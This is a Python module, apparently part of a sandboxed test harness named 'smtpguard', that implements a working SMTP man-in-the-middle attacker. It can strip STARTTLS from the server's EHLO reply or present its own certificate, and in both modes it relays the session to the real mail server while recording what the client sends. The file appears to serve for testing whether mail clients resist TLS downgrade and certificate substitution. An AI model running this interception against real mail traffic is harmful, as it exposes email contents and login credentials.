"""What does a man in the middle do to an SMTP session?  He stands on the MX's address, the MX behind him.

STRIP   takes STARTTLS out of the EHLO reply, answers the command with 502, relays the rest and reads it
SWAP    ends TLS himself with a certificate of his own, opens his own TLS to the MX, relays and reads
Toward the MX he uses TLS himself where it is offered, so that the MX notices nothing.
"""

from collections import deque
from enum import Enum

import trio

from smtpguard.sandbox.certificates import Credential
from smtpguard.sandbox.client import Client, Reply, unverifying_context
from smtpguard.sandbox.conversation import Conversation, Lost, listen, port_of
from smtpguard.sandbox.mx import server_context


class Trick(Enum):
    """How the attacker gets at the mail."""

    STRIP = "strips STARTTLS"
    SWAP = "shows another certificate"


class Attacker:
    """A man in the middle, in front of the MX at `target`.  `read`: what he read, by connection."""

    def __init__(self, trick: Trick, target: tuple[str, int], credential: Credential) -> None:
        self.trick = trick
        self.target = target
        self.credential = credential
        self.read: deque[bytearray] = deque(maxlen=1000)
        self.connections = 0
        self._victims: deque[Conversation] = deque(maxlen=1000)
        self.address = ""
        self.port = 0
        self._listening = trio.CancelScope()
        self._closed = trio.Event()
        self._closed.set()

    async def start(self, nursery: trio.Nursery, address: str, port: int = 0) -> None:
        """Bind and attack until `stop` or the nursery's end.  Raises OSError."""
        listener = await listen(address, port)
        self.address, self.port = address, port_of(listener)
        self._listening, self._closed = trio.CancelScope(), trio.Event()
        nursery.start_soon(self._serve, listener, nursery, self._listening)

    async def stop(self) -> None:
        """Close the listener; open sessions go on."""
        self._listening.cancel()
        await self._closed.wait()

    def has_read(self, octets: bytes) -> bool:
        """Did these octets pass where the attacker can read them?"""
        return any(octets in each for each in self.read)

    @property
    def clear(self) -> bytes:
        """All octets that victims sent in clear; once TLS began only what came before."""
        return b"".join(bytes(victim.received_clear) for victim in self._victims)

    async def _serve(self, listener: trio.SocketListener, nursery: trio.Nursery, scope: trio.CancelScope) -> None:
        closed = self._closed
        with scope:
            await trio.serve_listeners(self._attack, [listener], handler_nursery=nursery)
        closed.set()

    async def _attack(self, stream: trio.SocketStream) -> None:
        self.connections += 1
        kept = bytearray()
        self.read.append(kept)
        victim = Conversation(stream)
        self._victims.append(victim)
        async with stream:
            try:
                mx = await Client.connect(*self.target)
            except OSError:
                return
            try:
                await self._open_mx(mx, victim)
                if await self._hello(mx, victim, kept):
                    await _relay(victim, mx.conversation, kept)
            except Lost:
                pass
            finally:
                with trio.CancelScope(shield=True), trio.move_on_after(1):
                    await mx.conversation.aclose()

    async def _open_mx(self, mx: Client, victim: Conversation) -> None:
        """The MX's greeting goes to the victim; TLS to the MX is the attacker's own."""
        greeting = await mx.reply()
        await mx.hello("attacker.example")
        if mx.offers("STARTTLS"):
            await mx.start_tls(unverifying_context())
            await mx.hello("attacker.example")
        await victim.send(_encode(greeting))

    async def _hello(self, mx: Client, victim: Conversation, kept: bytearray) -> bool:
        """Answers the victim until its first other command; False where it left."""
        while True:
            line = await victim.receive_line()
            if victim.tls is not None or self.trick is Trick.STRIP:
                kept += line + b"\r\n"
            match line.split(b" ")[0].upper():
                case b"EHLO" | b"HELO":
                    reply = await mx.hello("attacker.example")
                    lines = [each for each in reply.lines if each.upper() != "STARTTLS"]
                    if self.trick is Trick.SWAP and victim.tls is None:
                        lines.append("STARTTLS")
                    await victim.send(_encode(Reply(reply.code, tuple(lines))))
                case b"STARTTLS" if self.trick is Trick.SWAP and victim.tls is None:
                    await victim.send(b"220 2.0.0 go ahead\r\n")
                    await victim.start_tls(server_context(self.credential), server_side=True)
                case b"STARTTLS":
                    await victim.send(b"502 5.5.1 no STARTTLS here\r\n")
                case b"QUIT":
                    await victim.send(b"221 2.0.0 bye\r\n")
                    await victim.aclose()
                    return False
                case _:
                    victim.put_back(line + b"\r\n")
                    return True


async def _relay(victim: Conversation, mx: Conversation, kept: bytearray) -> None:
    """Octets both ways until one side closes; what the victim sends is kept."""
    async with trio.open_nursery() as nursery:

        async def answer() -> None:
            try:
                while octets := await mx.receive():
                    await victim.send(octets)
            except Lost:
                pass
            nursery.cancel_scope.cancel()

        nursery.start_soon(answer)
        try:
            while octets := await victim.receive():
                kept += octets
                await mx.send(octets)
        except Lost:
            pass
        nursery.cancel_scope.cancel()


def _encode(reply: Reply) -> bytes:
    last = len(reply.lines) - 1
    return b"".join(
        f"{reply.code}{' ' if number == last else '-'}{line}\r\n".encode("latin-1")
        for number, line in enumerate(reply.lines)
    )
